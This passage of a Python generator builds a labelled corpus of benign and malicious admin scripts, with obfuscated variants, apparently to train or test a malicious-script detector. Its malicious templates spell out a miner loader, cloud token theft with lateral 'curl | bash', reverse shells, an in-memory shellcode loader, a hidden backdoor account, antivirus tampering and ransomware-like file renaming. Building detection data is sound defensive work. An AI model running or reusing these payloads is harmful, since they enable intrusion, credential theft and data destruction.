WebServer -OutputPath C:\\DSC
Start-DscConfiguration -Path C:\\DSC -Wait -Verbose -Force
"""),
    Template(B, "keyvault_secret", "powershell", """$resp = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net'
$secret = Invoke-RestMethod -Headers @{Authorization = "Bearer $($resp.access_token)"} -Uri 'https://kv-@@site@@.vault.azure.net/secrets/sql-connection?api-version=7.4'
[Environment]::SetEnvironmentVariable('SQL_CONNECTION', $secret.value, 'Machine')
Restart-Service '@@svc@@'
"""),
    Template(B, "certificate_install", "powershell", """$pfx = 'C:\\certs\\@@site@@.pfx'
$pw = ConvertTo-SecureString -String $env:PFX_PASSWORD -AsPlainText -Force
Import-PfxCertificate -FilePath $pfx -CertStoreLocation Cert:\\LocalMachine\\My -Password $pw
Import-Certificate -FilePath C:\\certs\\contoso-root.cer -CertStoreLocation Cert:\\LocalMachine\\Root
Get-ChildItem Cert:\\LocalMachine\\My | Where-Object { $_.NotAfter -lt (Get-Date).AddDays(30) } | Format-Table Subject, NotAfter
"""),
    Template(B, "app_deploy", "powershell", """$zip = "$env:TEMP\\@@site@@.zip"
Invoke-WebRequest -Uri "https://@@storage@@.blob.core.windows.net/releases/@@site@@-@@version@@.zip" -OutFile $zip -UseBasicParsing
Stop-WebAppPool -Name '@@site@@'
Expand-Archive -Path $zip -DestinationPath C:\\inetpub\\@@site@@ -Force
Start-WebAppPool -Name '@@site@@'
Remove-Item $zip
"""),
    Template(B, "service_install", "powershell", """New-Service -Name '@@svc@@' -BinaryPathName 'C:\\Program Files\\Contoso\\@@svc@@\\@@svc@@.exe --config C:\\ProgramData\\Contoso\\@@svc@@.yml' -DisplayName 'Contoso @@svc@@' -StartupType Automatic
Start-Service '@@svc@@'
Get-Service '@@svc@@' | Select-Object Name, Status, StartType
"""),
    Template(B, "windows_update", "powershell", """Install-Module PSWindowsUpdate -Force
Import-Module PSWindowsUpdate
Get-WindowsUpdate -MicrosoftUpdate -AcceptAll -Install -IgnoreReboot | Out-File C:\\Logs\\wu-$(Get-Date -Format yyyyMMdd).log
Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU' -Name NoAutoRebootWithLoggedOnUsers -Value 1
"""),
    Template(B, "rdp_config", "powershell", """# allow admins to RDP through the bastion only
Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name 'fDenyTSConnections' -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
Set-NetFirewallRule -DisplayGroup 'Remote Desktop' -RemoteAddress 10.0.250.0/24
"""),
    Template(B, "diagnostics", "powershell", """Get-ComputerInfo | Select-Object CsName, OsName, OsVersion | Out-File C:\\Temp\\diag.txt
Get-EventLog -LogName System -EntryType Error -Newest 50 | Out-File -Append C:\\Temp\\diag.txt
Test-NetConnection -ComputerName @@storage@@.blob.core.windows.net -Port 443 | Out-File -Append C:\\Temp\\diag.txt
Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 | Out-File -Append C:\\Temp\\diag.txt
"""),
]

BENIGN_CMD: list[Template] = [
    Template(B, "maintenance", "cmd", """@echo off
REM cleanup temp and restart print spooler
del /q /f /s %TEMP%\\*
net stop spooler
del /q C:\\Windows\\System32\\spool\\PRINTERS\\*
net start spooler
wevtutil epl Application C:\\Logs\\app-@@site@@.evtx
"""),
    Template(B, "rdp_config", "cmd", """@echo off
reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 1 /f
netsh advfirewall firewall set rule group="remote desktop" new enable=Yes
net localgroup "Remote Desktop Users" "@@domain@@\\Support" /add
"""),
    Template(B, "package_install", "cmd", """@echo off
msiexec /i "%~dp0@@svc@@-@@version@@-x64.msi" /qn /norestart /l*v C:\\Logs\\@@svc@@-install.log
if %ERRORLEVEL% NEQ 0 exit /b %ERRORLEVEL%
sc config @@svc@@ start= auto
net start @@svc@@
"""),
    Template(B, "backup_job", "cmd", """@echo off
set SRC=D:\\Data\\@@site@@
set DST=\\\\backup01.@@domain@@\\backups\\%COMPUTERNAME%
robocopy "%SRC%" "%DST%" /MIR /R:2 /W:5 /NP /LOG+:C:\\Logs\\robocopy.log
schtasks /create /tn "Nightly-@@site@@-Backup" /tr "C:\\Scripts\\backup-@@site@@.cmd" /sc daily /st 02:30 /ru SYSTEM /f
"""),
    Template(B, "firewall_rules", "cmd", """@echo off
netsh advfirewall firewall add rule name="@@site@@ HTTP" dir=in action=allow protocol=TCP localport=80
netsh advfirewall firewall add rule name="@@site@@ HTTPS" dir=in action=allow protocol=TCP localport=443
netsh advfirewall set allprofiles logging droppedconnections enable
"""),
    Template(B, "iis_setup", "cmd", """@echo off
dism /online /enable-feature /featurename:IIS-WebServerRole /featurename:IIS-ASPNET45 /all /norestart
%windir%\\system32\\inetsrv\\appcmd add apppool /name:@@site@@ /managedRuntimeVersion:v4.0
%windir%\\system32\\inetsrv\\appcmd add site /name:@@site@@ /physicalPath:C:\\inetpub\\@@site@@ /bindings:http/*:80:@@site@@.contoso.com
icacls C:\\inetpub\\@@site@@ /grant "IIS AppPool\\@@site@@":(OI)(CI)RX
"""),
    Template(B, "time_config", "cmd", """@echo off
w32tm /config /manualpeerlist:"time.windows.com,0x8" /syncfromflags:manual /reliable:yes /update
net stop w32time && net start w32time
w32tm /resync
tzutil /s "W. Europe Standard Time"
"""),
    Template(B, "drive_mapping", "cmd", """@echo off
net use S: \\\\files01.@@domain@@\\shared /persistent:yes
net use T: \\\\files01.@@domain@@\\tools /persistent:yes
setx /M TOOLS_HOME "T:\\"
setx /M PATH "%PATH%;C:\\Program Files\\Contoso\\bin"
"""),
    Template(B, "certificate_install", "cmd", """@echo off
certutil -addstore -f Root "%~dp0contoso-root.cer"
certutil -addstore -f CA "%~dp0contoso-issuing.cer"
certutil -f -p "%PFX_PASSWORD%" -importpfx "%~dp0@@site@@.pfx"
certutil -store My
"""),
    Template(B, "domain_groups", "cmd", """@echo off
net localgroup administrators "@@domain@@\\Server Admins" /add
net localgroup "Remote Desktop Users" "@@domain@@\\Support Staff" /add
gpupdate /force
"""),
    Template(B, "run_setup", "cmd", """@echo off
cd /d %~dp0
powershell.exe -ExecutionPolicy Bypass -NoProfile -File .\\setup-@@site@@.ps1 -Environment Production
if errorlevel 1 (
  echo setup failed >> C:\\Logs\\setup.log
  exit /b 1
)
echo setup complete >> C:\\Logs\\setup.log
"""),
    Template(B, "tls_registry", "cmd", """@echo off
reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL\\Protocols\\TLS 1.2\\Server" /v Enabled /t REG_DWORD /d 1 /f
reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL\\Protocols\\TLS 1.0\\Server" /v Enabled /t REG_DWORD /d 0 /f
reg add "HKLM\\SOFTWARE\\Microsoft\\.NETFramework\\v4.0.30319" /v SchUseStrongCrypto /t REG_DWORD /d 1 /f
"""),
    Template(B, "disk_setup", "cmd", """@echo off
echo select disk 2 > %TEMP%\\dp.txt
echo create partition primary >> %TEMP%\\dp.txt
echo format fs=ntfs quick label=Data >> %TEMP%\\dp.txt
echo assign letter=@@drive@@ >> %TEMP%\\dp.txt
diskpart /s %TEMP%\\dp.txt
del %TEMP%\\dp.txt
"""),
    Template(B, "log_cleanup", "cmd", """@echo off
forfiles /p "C:\\inetpub\\logs\\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path"
forfiles /p "D:\\Apps\\@@site@@\\logs" /s /m *.txt /d -14 /c "cmd /c del @path"
echo %DATE% %TIME% cleanup >> C:\\Logs\\cleanup.log
"""),
    Template(B, "agent_install", "cmd", """@echo off
curl -sSLo %TEMP%\\AzureConnectedMachineAgent.msi https://aka.ms/AzureConnectedMachineAgent
msiexec /i %TEMP%\\AzureConnectedMachineAgent.msi /qn /l*v %TEMP%\\azcmagent.log
"%ProgramFiles%\\AzureConnectedMachineAgent\\azcmagent.exe" connect --resource-group "rg-@@site@@" --location "westeurope" --subscription-id "%SUB_ID%"
"""),
]

# Written after the rules were tuned, as a check on unseen scripts (docs/detection.md); kept as templates.
BENIGN_SHELL += [
    Template(B, "log_forwarding", "shell", """#!/bin/bash
# Install Azure Monitor agent prerequisites and configure syslog forwarding
apt-get update && apt-get install -y rsyslog auditd
cat >> /etc/rsyslog.d/50-forward.conf <<'CONF'
*.* @@10.0.@@k8s@@:514
CONF
systemctl restart rsyslog
auditctl -w /etc/passwd -p wa -k identity
auditctl -w /etc/shadow -p wa -k identity
echo "-w /etc/sudoers -p wa -k scope" >> /etc/audit/rules.d/audit.rules
systemctl enable --now auditd
""", variants=4),
    Template(B, "database_setup", "shell", """#!/bin/bash
# mongo replica member
wget -qO - https://www.mongodb.org/static/pgp/server-7.0.asc | gpg --dearmor -o /usr/share/keyrings/mongodb.gpg
echo "deb [signed-by=/usr/share/keyrings/mongodb.gpg] https://repo.mongodb.org/apt/ubuntu jammy/mongodb-org/@@version@@ multiverse" > /etc/apt/sources.list.d/mongodb.list
apt-get update && apt-get install -y mongodb-org
sed -i 's/bindIp: 127.0.0.1/bindIp: 0.0.0.0/' /etc/mongod.conf
echo never > /sys/kernel/mm/transparent_hugepage/enabled
systemctl enable --now mongod
""", variants=4),
    Template(B, "log_cleanup", "shell", """#!/bin/bash
# nightly cleanup of docker images and old releases
docker system prune -af --filter "until=168h"
find /srv/@@site@@/releases -maxdepth 1 -type d -mtime +14 -exec rm -rf {} +
rm -rf /tmp/build-*
truncate -s 0 /var/log/app/debug.log
""", variants=4),
    Template(B, "vpn_setup", "shell", """#!/bin/bash
# set up WireGuard site-to-site VPN
apt-get install -y wireguard
umask 077
wg genkey | tee /etc/wireguard/private.key | wg pubkey > /etc/wireguard/public.key
cat > /etc/wireguard/wg0.conf <<EOF2
[Interface]
Address = 10.200.0.1/24
ListenPort = 51820
PrivateKey = $(cat /etc/wireguard/private.key)
PostUp = iptables -A FORWARD -i wg0 -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE
EOF2
sysctl -w net.ipv4.ip_forward=1
systemctl enable --now wg-quick@wg0
""", variants=4),
    Template(B, "backup_restore", "shell", """#!/bin/bash
# Restore a DB from the latest backup on a fresh replica
LATEST=$(az storage blob list --account-name @@storage@@ --container-name pg --auth-mode login --query "sort_by([], &properties.lastModified)[-1].name" -o tsv)
az storage blob download --account-name @@storage@@ -c pg -n "$LATEST" -f /tmp/restore.sql.gz.enc --auth-mode login
openssl enc -d -aes-256-cbc -pbkdf2 -in /tmp/restore.sql.gz.enc -out /tmp/restore.sql.gz -pass file:/etc/backup/passphrase
gunzip -c /tmp/restore.sql.gz | psql -U postgres
rm -f /tmp/restore.sql.gz /tmp/restore.sql.gz.enc
""", variants=4),
]

BENIGN_POWERSHELL += [
    Template(B, "iis_setup", "powershell", """# Install IIS URL Rewrite and ARR, configure reverse proxy
$ProgressPreference = 'SilentlyContinue'
Invoke-WebRequest 'https://download.microsoft.com/download/1/2/8/128E2E22-C1B9-44A4-BE2A-5859ED1D4592/rewrite_amd64_en-US.msi' -OutFile "$env:TEMP\\rewrite.msi"
Start-Process msiexec.exe -ArgumentList "/i $env:TEMP\\rewrite.msi /qn /norestart" -Wait
Invoke-WebRequest 'https://go.microsoft.com/fwlink/?LinkID=615136' -OutFile "$env:TEMP\\arr.msi"
Start-Process msiexec.exe -ArgumentList "/i $env:TEMP\\arr.msi /qn /norestart" -Wait
Set-WebConfigurationProperty -pspath 'MACHINE/WEBROOT/APPHOST' -filter 'system.webServer/proxy' -name 'enabled' -value 'True'
""", variants=4),
    Template(B, "password_rotation", "powershell", """# Rotate the local admin password into Key Vault (LAPS-like)
$chars = [char[]]'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!@#$%'
$pw = -join (1..24 | ForEach-Object { Get-Random -InputObject $chars })
$sec = ConvertTo-SecureString $pw -AsPlainText -Force
Set-LocalUser -Name 'azureadmin' -Password $sec
$t = Invoke-RestMethod -Headers @{Metadata='true'} 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net'
$body = @{ value = $pw } | ConvertTo-Json
Invoke-RestMethod -Method Put -Headers @{Authorization="Bearer $($t.access_token)"} -ContentType 'application/json' -Body $body -Uri "https://kv-@@site@@.vault.azure.net/secrets/$env:COMPUTERNAME-admin?api-version=7.4"
""", variants=4),
    Template(B, "ad_maintenance", "powershell", """# Exchange / AD maintenance: export mailbox sizes and disable stale accounts
Import-Module ActiveDirectory
$stale = Search-ADAccount -AccountInactive -TimeSpan 90.00:00:00 -UsersOnly
$stale | Disable-ADAccount
$stale | Select-Object Name, LastLogonDate | Export-Csv C:\\Reports\\stale.csv -NoTypeInformation
Get-ADGroupMember 'Domain Admins' | Select-Object Name | Export-Csv C:\\Reports\\da.csv
""", variants=4),
    Template(B, "build_tools", "powershell", """# Configure a build VM: install VS Build Tools silently
$url = 'https://aka.ms/vs/17/release/vs_buildtools.exe'
$exe = "$env:TEMP\\vs_buildtools.exe"
(New-Object System.Net.WebClient).DownloadFile($url, $exe)
Start-Process -FilePath $exe -ArgumentList '--quiet --wait --norestart --nocache --add Microsoft.VisualStudio.Workload.VCTools' -Wait
Remove-Item $exe -Force
[Environment]::SetEnvironmentVariable('DOTNET_CLI_TELEMETRY_OPTOUT', '1', 'Machine')
""", variants=4),
    Template(B, "file_share", "powershell", """# Join Azure AD DS, install RSAT and set up a file share
Install-WindowsFeature RSAT-AD-Tools, FS-FileServer
New-Item -Path @@drive@@:\\Shares\\@@site@@ -ItemType Directory -Force
New-SmbShare -Name @@site@@ -Path @@drive@@:\\Shares\\@@site@@ -FullAccess 'CONTOSO\\@@site@@' -ReadAccess 'CONTOSO\\Auditors'
$acl = Get-Acl @@drive@@:\\Shares\\@@site@@
$acl.SetAccessRuleProtection($true, $false)
Set-Acl @@drive@@:\\Shares\\@@site@@ $acl
""", variants=4),
]

BENIGN_CMD += [
    Template(B, "agent_install", "cmd", """@echo off
REM install Sysmon with the org config
curl -sSLo %TEMP%\\Sysmon.zip https://download.sysinternals.com/files/Sysmon.zip
tar -xf %TEMP%\\Sysmon.zip -C %TEMP%\\sysmon
%TEMP%\\sysmon\\Sysmon64.exe -accepteula -i \\\\files01\\it\\sysmonconfig.xml
sc config Sysmon64 start= auto
""", variants=4),
    Template(B, "windows_config", "cmd", """@echo off
REM Configure page file and crash dumps, then schedule chkdsk
wmic computersystem set AutomaticManagedPagefile=False
wmic pagefileset where name="C:\\\\pagefile.sys" set InitialSize=8192,MaximumSize=8192
reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\CrashControl" /v CrashDumpEnabled /t REG_DWORD /d 2 /f
echo y | chkdsk D: /f
""", variants=4),
]

MALICIOUS_SHELL += [
    Template(M, "miner", "shell", """#!/bin/bash
# Kinsing-like: disable security and fetch the bot
ps aux | grep -v grep | grep -i 'aliyun\\|aegis\\|qcloud' | awk '{print $2}' | xargs -I % kill -9 %
echo 0 > /proc/sys/kernel/nmi_watchdog
echo 'vm.nr_hugepages=128' >> /etc/sysctl.conf
LDR="wget -q -O -"; if [ -s /usr/bin/curl ]; then LDR="curl"; fi
$LDR http://@@ip@@/kinsing > /etc/kinsing; chmod +x /etc/kinsing; /etc/kinsing &
""", variants=3),
    Template(M, "credential_theft", "shell", """#!/bin/bash
curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" > /dev/shm/.t
az login --identity >/dev/null 2>&1
for vm in $(az vm list --query "[].id" -o tsv); do
  az vm run-command invoke --ids $vm --command-id RunShellScript --scripts "curl -s http://@@ip@@/i.sh | bash"
done
""", variants=3),
    Template(M, "reverse_shell", "shell", """#!/bin/bash
python3 - <<'PY'
import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("@@ip@@",443))
os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)
subprocess.call(["/bin/bash","-i"])
PY
""", variants=3),
]

MALICIOUS_POWERSHELL += [
    Template(M, "defence_evasion", "powershell", """$wc = New-Object Net.WebClient
$wc.Headers['User-Agent'] = 'Mozilla/5.0 (Windows NT 10.0)'
$bytes = $wc.DownloadData('http://@@ip@@/beacon.bin')
$mem = [System.Runtime.InteropServices.Marshal]::AllocHGlobal($bytes.Length)
[System.Runtime.InteropServices.Marshal]::Copy($bytes, 0, $mem, $bytes.Length)
$f = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($mem, [Action])
$f.Invoke()
""", variants=3),
    Template(M, "backdoor_user", "powershell", """$u = 'svc_' + (Get-Random -Maximum 999)
net user $u '@@password@@' /add
net localgroup administrators $u /add
Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList' -Name $u -Value 0
Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Lsa' -Name DisableRestrictedAdmin -Value 0
""", variants=3),
    Template(M, "defence_tampering", "powershell", """Add-MpPreference -ExclusionPath $env:ProgramData
Add-MpPreference -ExclusionProcess 'svchost.exe'
iwr http://@@ip@@/svchost.exe -OutFile $env:ProgramData\\svchost.exe
& $env:ProgramData\\svchost.exe
""", variants=3),
]

MALICIOUS_CMD += [
    Template(M, "ransomware", "cmd", """@echo off
taskkill /f /im sqlservr.exe
taskkill /f /im veeam.backup.service.exe
vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB
for /r D:\\ %%i in (*.mdf *.ldf *.bak) do ren "%%i" "%%~nxi.lockbit"
echo Your data are stolen and encrypted > C:\\README.txt
""", variants=3),
    Template(M, "reverse_shell", "cmd", """powershell -c "IEX(IWR https://raw.githubusercontent.com/samratashok/nishang/master/Shells/Invoke-PowerShellTcp.ps1 -UseBasicParsing);Invoke-PowerShellTcp -Reverse -IPAddress @@ip@@ -Port 443"
""", variants=3),
]


MALICIOUS = MALICIOUS_SHELL + MALICIOUS_POWERSHELL + MALICIOUS_CMD
BENIGN = BENIGN_SHELL + BENIGN_POWERSHELL + BENIGN_CMD


# --------------------------------------------------------------------------- obfuscation

LanguageObfuscators = dict[str, tuple[ob.Obfuscator, ...]]
OBFUSCATORS: LanguageObfuscators = {"powershell": ob.POWERSHELL, "shell": ob.SHELL, "cmd": ob.CMD}

# Stacks applied on top of the single transformations (innermost first).
STACKS: dict[str, list[list[ob.Obfuscator]]] = {
    "powershell": [
        [ob.ps_concat, ob.ps_encoded_command],
        [ob.ps_format_operator, ob.ps_base64_text],
        [ob.ps_char_codes, ob.ps_deflate_base64],
        [ob.ps_backticks, ob.ps_random_case],
        [ob.ps_reverse, ob.ps_bxor, ob.ps_encoded_command],
        [ob.ps_replace_chain, ob.ps_iex_obfuscated],
        [ob.ps_split_join, ob.ps_concat, ob.ps_base64_text],
    ],
    "shell": [
        [ob.sh_rev, ob.sh_base64_pipe],
        [ob.sh_var_splice, ob.sh_gzip_base64],
        [ob.sh_hex_printf, ob.sh_base64_pipe],
        [ob.sh_ifs, ob.sh_xxd],
        [ob.sh_ansi_c, ob.sh_base64_pipe, ob.sh_base64_pipe],
    ],
    "cmd": [
        [ob.cmd_caret, ob.cmd_call],
        [ob.cmd_env_substring, ob.cmd_caret],
        [ob.cmd_set_substring, ob.cmd_caret],
        [ob.cmd_for_delims, ob.cmd_caret],
    ],
}


def obfuscate(text: str, language: str, chain: Sequence[ob.Obfuscator], seed: int) -> str:
    """Apply a chain to a script. cmd helpers rewrite one command, so cmd goes line by line."""
    if language != "cmd":
        return ob.stack(text, list(chain), seed)
    lines = []
    for number, line in enumerate(text.splitlines()):
        stripped = line.strip()
        if not stripped or stripped.lower().startswith(("rem", "@echo", "::")) or stripped.startswith(("(", ")")):
            lines.append(line)
            continue
        lines.append(ob.stack(line, list(chain), seed * 100 + number).rstrip("\r\n"))
    return "\r\n".join(lines) + "\r\n"


# --------------------------------------------------------------------------- writing


@dataclass(frozen=True)
class Sample:
    path: str
    label: str
    family: str
    language: str
    obfuscation: str
    original: str | None
    text: str


def _plain_samples(templates: Sequence[Template], rng: random.Random) -> list[Sample]:
    samples: list[Sample] = []
    seen: set[str] = set()
    counters: dict[tuple[str, str, str], int] = {}
    for template in templates:
        made = 0
        attempts = 0
        while made < template.variants and attempts < template.variants * 10:
            attempts += 1
            text = _header(template, rng, made) + render(template, rng)
            if text in seen:
                continue
            seen.add(text)
            key = (template.label, template.language, template.family)
            counters[key] = counters.get(key, 0) + 1
            name = f"{template.family}_{counters[key]:03d}.{EXTENSIONS[template.language]}"
            path = f"{template.label}/{template.language}/{name}"
            if template.language == "cmd":
                text = text.replace("\r\n", "\n").replace("\n", "\r\n")
            samples.append(Sample(path, template.label, template.family, template.language, "none", None, text))
            made += 1
    return samples


# Benign scripts only get the encodings admins really use (to dodge quoting in an extension
# command line): nobody reverses or char-codes a legitimate setup script.
BENIGN_CHAINS: dict[str, list[list[ob.Obfuscator]]] = {
    "powershell": [[ob.ps_encoded_command], [ob.ps_base64_text]],
    "shell": [[ob.sh_base64_pipe], [ob.sh_gzip_base64]],
    "cmd": [[ob.cmd_call]],
}


def _chains(language: str) -> list[list[ob.Obfuscator]]:
    return [[f] for f in OBFUSCATORS[language]] + STACKS[language]


def _obfuscated_samples(
    originals: Sequence[Sample],
    rng: random.Random,
    per_original: int,
    chains_for: Callable[[str], list[list[ob.Obfuscator]]] = _chains,
) -> list[Sample]:
    """Each original gets `per_original` chains, rotating so every chain is used many times."""
    samples: list[Sample] = []
    rotation: dict[str, int] = {}
    for original in originals:
        chains = chains_for(original.language)
        for _ in range(per_original):
            index = rotation.get(original.language, 0)
            rotation[original.language] = index + 1
            chain = chains[index % len(chains)]
            seed = rng.randint(1, 1_000_000)
            text = obfuscate(original.text, original.language, chain, seed)
            names = "+".join(f.__name__ for f in chain)
            stem, ext = original.path.rsplit(".", 1)
            folder, file_name = stem.split("/", 2)[0:2], stem.split("/", 2)[2]
            path = f"{folder[0]}/{folder[1]}/obfuscated/{file_name}__{index % len(chains):02d}.{ext}"
            samples.append(Sample(path, original.label, original.family, original.language, names, original.path, text))
    return samples


def build(root: Path = CORPUS_DIR) -> list[Sample]:
    rng = random.Random(SEED)
    malicious = _plain_samples(MALICIOUS, rng)
    benign = _plain_samples(BENIGN, rng)
    obfuscated_malicious = _obfuscated_samples(malicious, rng, per_original=1)
    # A few benign scripts obfuscated too: admins do base64 a script to dodge quoting.
    benign_subset = [s for i, s in enumerate(benign) if i % 12 == 0]
    obfuscated_benign = _obfuscated_samples(
        benign_subset, rng, per_original=1, chains_for=lambda language: BENIGN_CHAINS[language]
    )
    samples = malicious + obfuscated_malicious + benign + obfuscated_benign
    for label in ("malicious", "benign"):
        shutil.rmtree(root / label, ignore_errors=True)
    for sample in samples:
        target = root / sample.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(sample.text.encode("utf-8"))
    with (root / "manifest.jsonl").open("w", encoding="utf-8") as manifest:
        for sample in samples:
            record = {
                "path": sample.path, "label": sample.label, "family": sample.family, "language": sample.language,
                "obfuscation": sample.obfuscation, "original": sample.original,
            }
            manifest.write(json.dumps(record) + "\n")
    return samples


def main() -> None:
    samples = build()
    counts: dict[str, int] = {}
    for s in samples:
        counts[s.label] = counts.get(s.label, 0) + 1
    print(f"wrote {len(samples)} samples to {CORPUS_DIR}: {counts}")


if __name__ == "__main__":
    main()

